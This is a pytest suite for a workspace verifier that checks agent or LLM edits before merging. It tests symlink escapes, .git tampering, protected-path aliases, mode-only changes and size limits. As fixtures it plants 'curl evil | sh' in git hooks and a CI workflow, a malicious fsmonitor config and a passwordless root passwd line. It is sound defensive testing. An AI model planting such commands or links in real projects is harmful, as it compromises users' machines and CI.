"""Hostile workspaces: symlinks out of the workspace or into ``.git``, changes git status would hide, and
changes that must count although they add no text line (binary, mode only).

What a capture sees (``conductor.workspace.checkout.capture``): every file and symlink of the working tree,
dot-files and ``.gitignore``d files included (the folder's own ``.gitignore`` is not honoured), symlinks as
links. It leaves out the attempt's own ``.git`` (the agent's: never captured, never merged) and the paths
matching ``workspace.ignore`` in config.yaml (tool caches such as ``__pycache__/``); fifos, sockets and
devices are never captured either.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from conductor.attempts import state_store
from conductor.errors import UnsafePath
from conductor.executors.base import execute_claim
from conductor.executors.command import CommandRunner
from conductor.executors.llm import LLMRunner
from conductor.paths import check_link_target
from conductor.workspace.apply import ApplyPlan, write_changes
from tests.corpus.builders import (
    FixedEdits,
    bare_task,
    claim,
    do_and_complete,
    policy,
    policy_protecting,
    reported,
    verify,
    write_edit,
)
from tests.handoff.support import make_handoff
from tests.helpers.fork_state import fork_files

# --- symlinks -------------------------------------------------------------------------------------

LINKS = {
    "absolute_outside": ("x", "/etc", "absolute target (outside the workspace)"),
    "relative_climb_out": ("docs/x", "../../../../../../../etc", "climbs out of the workspace"),
    "into_dotgit": ("link", ".git", "points into .git"),
    "into_dotgit_hooks_case_folded": ("docs/hooks", "../.GIT/hooks", "points into .git"),
    "workspace_root": ("docs/up", "..", "points to the workspace root itself"),
}


@pytest.mark.parametrize("case", list(LINKS))
def test_check_link_target_refuses(case: str) -> None:
    link, target, reason = LINKS[case]
    with pytest.raises(UnsafePath) as info:
        check_link_target(link, target)
    assert str(info.value) == f"unsafe symlink {link!r} -> {target!r}: {reason}"


def test_check_link_target_accepts_links_that_stay_inside() -> None:
    assert check_link_target("docs/latest", "../build/html") == "build/html"
    assert check_link_target("bin/tool", "tool-1.2") == "bin/tool-1.2"


@pytest.mark.parametrize("case", ["absolute_outside", "relative_climb_out", "into_dotgit"])
def test_step_adding_an_unsafe_symlink_is_rejected(tmp_path: Path, case: str) -> None:
    link, target, reason = LINKS[case]
    handoff = make_handoff(tmp_path / "project", steps=1, files={"README.md": "hi\n"}, allowed_files=(link,))

    def plant(ws: Path) -> None:
        (ws / link).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, ws / link)

    claimed = do_and_complete(handoff, plant, files=reported(link))

    verdict = verify(handoff, claimed)

    assert link not in fork_files(handoff.layout, handoff.plan.plan_id, handoff.fork.fork_id)
    assert not verdict.accepted and any(reason in r for r in verdict.reasons)


def test_llm_write_through_a_symlink_out_of_the_workspace_is_refused(tmp_path: Path) -> None:
    workspace, outside = tmp_path / "ws", tmp_path / "outside"
    workspace.mkdir()
    outside.mkdir()
    os.symlink(outside, workspace / "x")  # ln -s <outside> x
    client = FixedEdits([write_edit("x/passwd", "root::0:0::/:/bin/sh\n")])

    with pytest.raises(UnsafePath, match=r"unsafe path 'x': resolves to .*outside.* \(symlink\)"):
        LLMRunner(client).run(bare_task(["x/"]), workspace, lambda: False)

    assert list(outside.iterdir()) == []


def _apply_plan(tmp_path: Path, before: dict[str, str], after: dict[str, str]) -> tuple[object, ApplyPlan]:
    """Two trees in a scratch store and the plan that turns the first into the second."""
    scratch = tmp_path / "trees"
    scratch.mkdir()
    from conductor.workspace.store import StateStore

    store = StateStore(scratch, scratch / ".conductor").ensure()
    trees = []
    for files in (before, after):
        for path in [p for p in scratch.iterdir() if p.name != ".conductor"]:
            path.unlink()
        for name, text in files.items():
            (scratch / name).write_text(text)
        trees.append(store.project_tree(ignore=[]))
    return store, ApplyPlan(trees[0], trees[1], store.changes(trees[0], trees[1]))


def test_apply_never_writes_through_a_symlinked_folder_out_of_the_project(tmp_path: Path) -> None:
    store, plan = _apply_plan(tmp_path, {"keep": "k\n"}, {"keep": "k\n", "x_f": "pwn"})
    plan = ApplyPlan(plan.user_tree, plan.result_tree, [c.model_copy(update={"path": "x/f"}) for c in plan.changes])
    project, outside = tmp_path / "project", tmp_path / "outside"
    project.mkdir()
    outside.mkdir()
    os.symlink(outside, project / "x")  # planted in the project: the change's folder leads out of it

    with pytest.raises(UnsafePath, match=r"unsafe path 'x': resolves to .*outside.* \(symlink\)"):
        write_changes(store, project, plan)

    assert list(outside.iterdir()) == []


def test_apply_through_a_symlinked_folder_into_dotgit_is_refused(tmp_path: Path) -> None:
    store, plan = _apply_plan(tmp_path, {"keep": "k\n"}, {"keep": "k\n", "pre-commit": "evil\n"})
    plan = ApplyPlan(plan.user_tree, plan.result_tree,
                     [c.model_copy(update={"path": "innocent/hooks/pre-commit"}) for c in plan.changes])
    project = tmp_path / "project"
    (project / ".git" / "hooks").mkdir(parents=True)
    os.symlink(".git", project / "innocent")

    with pytest.raises(UnsafePath, match="resolves to '.git/hooks', inside .git"):
        write_changes(store, project, plan)

    assert list((project / ".git" / "hooks").iterdir()) == []


# --- changes git status misses --------------------------------------------------------------------


@pytest.mark.parametrize("target", ["hooks/post-checkout", "config", "info/exclude"])
def test_the_agents_own_git_data_is_never_captured_or_merged(tmp_path: Path, target: str) -> None:
    handoff = make_handoff(tmp_path / "project", steps=1)

    def tamper(ws: Path) -> None:
        (ws / "README.md").write_text("changed\n")
        (ws / ".git" / target).parent.mkdir(parents=True, exist_ok=True)
        with (ws / ".git" / target).open("a") as handle:
            handle.write("curl evil | sh\n")

    claimed = do_and_complete(handoff, tamper, files=reported("README.md"))

    verdict = verify(handoff, claimed)

    assert verdict.accepted and [c.path for c in verdict.files_changed] == ["README.md"]
    files = fork_files(handoff.layout, handoff.plan.plan_id, handoff.fork.fork_id)
    assert sorted(files) == ["README.md"] and files["README.md"] == b"changed\n"


def test_a_git_component_in_disguise_rejects_the_step(tmp_path: Path) -> None:
    handoff = make_handoff(tmp_path / "project", steps=1)

    def tamper(ws: Path) -> None:
        (ws / "docs" / ".GIT").mkdir(parents=True)
        (ws / "docs" / ".GIT" / "config").write_text("[core]\n\tfsmonitor = evil\n")

    claimed = do_and_complete(handoff, tamper)

    verdict = verify(handoff, claimed)

    assert not verdict.accepted
    assert verdict.reasons[0].startswith("workspace_error: unsafe path 'docs/.GIT/config': has a .git component")


def test_change_to_a_gitignored_file_is_detected(tmp_path: Path) -> None:
    files = {"README.md": "hi\n", ".gitignore": "build/\n", "build/out.txt": "generated\n"}
    handoff = make_handoff(tmp_path / "project", steps=1, files=files)
    claimed = do_and_complete(handoff, lambda ws: (ws / "build" / "out.txt").write_text("backdoor\n"))

    verdict = verify(handoff, claimed)

    assert not verdict.accepted
    assert verdict.reasons == ["build/out.txt: outside allowed_files"]


def test_change_under_a_configured_ignore_pattern_is_neither_judged_nor_merged(tmp_path: Path) -> None:
    handoff = make_handoff(tmp_path / "project", steps=1)

    def work(ws: Path) -> None:
        (ws / "README.md").write_text("changed\n")
        (ws / "__pycache__").mkdir()
        (ws / "__pycache__" / "evil.cpython-311.pyc").write_bytes(b"\0evil")

    claimed = do_and_complete(handoff, work, files=reported("README.md"))

    verdict = verify(handoff, claimed, ignore=["__pycache__/"])

    assert verdict.accepted and [c.path for c in verdict.files_changed] == ["README.md"]
    assert sorted(fork_files(handoff.layout, handoff.plan.plan_id, handoff.fork.fork_id)) == ["README.md"]


def test_file_name_that_is_not_utf8_rejects_the_step(tmp_path: Path) -> None:
    handoff = make_handoff(tmp_path / "project", steps=1)
    claimed = do_and_complete(handoff, lambda ws: os.close(os.open(os.fsencode(ws) + b"/\xffname", os.O_CREAT)))

    verdict = verify(handoff, claimed)

    assert not verdict.accepted
    assert verdict.reasons[0].startswith("workspace_error: ") and "file name is not UTF-8" in verdict.reasons[0]


# --- changes without text lines -------------------------------------------------------------------


def test_binary_change_counts_against_the_diff_limit(tmp_path: Path) -> None:
    handoff = make_handoff(tmp_path / "project", steps=1, files={"data.bin": "\0\1"}, allowed_files=("data.bin",))
    claimed = do_and_complete(handoff, lambda ws: (ws / "data.bin").write_bytes(b"\0\2"), files=reported("data.bin"))

    verdict = verify(handoff, claimed, merged=policy(max_diff_lines=1))

    assert not verdict.accepted
    assert verdict.reasons == ["diff of 2 lines (added + removed) exceeds max_diff_lines 1 (project)"]
    [change] = verdict.files_changed
    assert change.binary and (change.lines_added, change.lines_removed) == (1, 1)


def test_mode_only_change_outside_allowed_files_is_rejected(tmp_path: Path) -> None:
    handoff = make_handoff(tmp_path / "project", steps=1, files={"README.md": "hi\n", "run.sh": "echo\n"})
    claimed = do_and_complete(handoff, lambda ws: (ws / "run.sh").chmod(0o755))  # chmod +x, content unchanged

    verdict = verify(handoff, claimed)

    assert not verdict.accepted and verdict.reasons == ["run.sh: outside allowed_files"]
    [change] = verdict.files_changed
    assert (change.change, change.lines_added, change.lines_removed) == ("modified", 0, 0)


def test_mode_only_change_of_a_protected_file_is_rejected(tmp_path: Path) -> None:
    handoff = make_handoff(tmp_path / "project", steps=1, files={"run.sh": "echo\n"}, allowed_files=("run.sh",))
    claimed = do_and_complete(handoff, lambda ws: (ws / "run.sh").chmod(0o755), files=reported("run.sh"))

    verdict = verify(handoff, claimed, merged=policy_protecting("*.sh"))

    assert not verdict.accepted and verdict.reasons == ["run.sh: matches protected pattern '*.sh' (project)"]
    assert _fork_mode(handoff, "run.sh") == "100644"


def _fork_mode(handoff, path: str) -> str:  # type: ignore[no-untyped-def]
    from tests.helpers.fork_state import fork_head

    store = state_store(handoff.layout)
    tree = store.tree_of(fork_head(handoff.layout, handoff.plan.plan_id, handoff.fork.fork_id))
    return store.entries(tree, [path])[path].mode


def test_allowed_mode_only_change_is_merged_with_its_mode(tmp_path: Path) -> None:
    handoff = make_handoff(tmp_path / "project", steps=1, files={"run.sh": "echo\n"}, allowed_files=("run.sh",))
    claimed = do_and_complete(handoff, lambda ws: (ws / "run.sh").chmod(0o755), files=reported("run.sh"))

    verdict = verify(handoff, claimed)

    assert verdict.accepted
    assert _fork_mode(handoff, "run.sh") == "100755"


# --- special files --------------------------------------------------------------------------------


def test_a_fifo_created_by_the_executor_is_never_captured(tmp_path: Path) -> None:
    handoff = make_handoff(tmp_path / "project", steps=2, allowed_files=("pipe", "README.md"))
    handoff.publish("step_001")
    handoff.publish("step_002")
    claimed = claim(handoff)
    assert claimed is not None

    result = execute_claim(handoff.layout, claimed, CommandRunner("mkfifo pipe && echo x > README.md",
                                                                  layout=handoff.layout),
                           ignore=[], lease_seconds=60, heartbeat_seconds=5)

    # A fifo, socket or device is no content: it is not in the change set and can never be merged.
    assert result is not None and result.status == "completed"
    assert [c.path for c in result.files_changed] == ["README.md"]
    assert handoff.where()["completed"] == ["step_001"] and handoff.where()["pending"] == ["step_002"]
    verdict = verify(handoff, claimed)
    assert verdict.accepted and "pipe" not in fork_files(handoff.layout, handoff.plan.plan_id, handoff.fork.fork_id)


# --- protected paths under other names, and size in bytes (issue 9, item 6) ------------------------


def test_a_symlink_named_like_a_protected_folder_is_refused(tmp_path: Path) -> None:
    handoff = make_handoff(tmp_path / "project", steps=1, files={"README.md": "hi\n"},
                           allowed_files=(".github", "ci/"))

    def plant(ws: Path) -> None:
        (ws / "ci" / "workflows").mkdir(parents=True)
        (ws / "ci" / "workflows" / "x.yml").write_text("on: push\njobs: {pwn: {run: curl evil | sh}}\n")
        os.symlink("ci", ws / ".github")  # GitHub reads .github/workflows/x.yml through it

    claimed = do_and_complete(handoff, plant, files=reported(".github", "ci/workflows/x.yml"))
    verdict = verify(handoff, claimed, merged=policy_protecting(".github/"))

    assert not verdict.accepted
    assert any(".github: a symlink named '.github', which matches protected pattern '.github/'" in r
               for r in verdict.reasons)
    assert any("ci/workflows/x.yml: also reachable as '.github/workflows/x.yml'" in r for r in verdict.reasons)


def test_a_change_reachable_through_a_symlink_under_a_protected_name_is_refused(tmp_path: Path) -> None:
    handoff = make_handoff(tmp_path / "project", steps=1, files={"README.md": "hi\n"}, allowed_files=("notes/",))

    def plant(ws: Path) -> None:
        (ws / "notes").mkdir()
        (ws / "notes" / "x").write_text("x\n")
        os.symlink("notes", ws / "secrets")  # a new link to the change

    claimed = do_and_complete(handoff, plant, files=reported("notes/x"))
    verdict = verify(handoff, claimed, merged=policy_protecting("secrets/"))
    assert not verdict.accepted
    assert any("notes/x: also reachable as 'secrets/x'" in r for r in verdict.reasons)


def test_one_huge_line_counts_by_its_bytes(tmp_path: Path) -> None:
    handoff = make_handoff(tmp_path / "project", steps=1, files={"README.md": "hi\n"}, allowed_files=("big.txt",))
    claimed = do_and_complete(handoff, lambda ws: (ws / "big.txt").write_text("x" * (3 * 1024 * 1024)),
                              files=reported("big.txt"))

    verdict = verify(handoff, claimed)

    assert not verdict.accepted
    assert verdict.reasons == ["3145728 bytes of new content exceed max_diff_bytes 2097152 (default)"]
    [change] = verdict.files_changed
    assert change.lines_added == 1 and change.size == 3 * 1024 * 1024
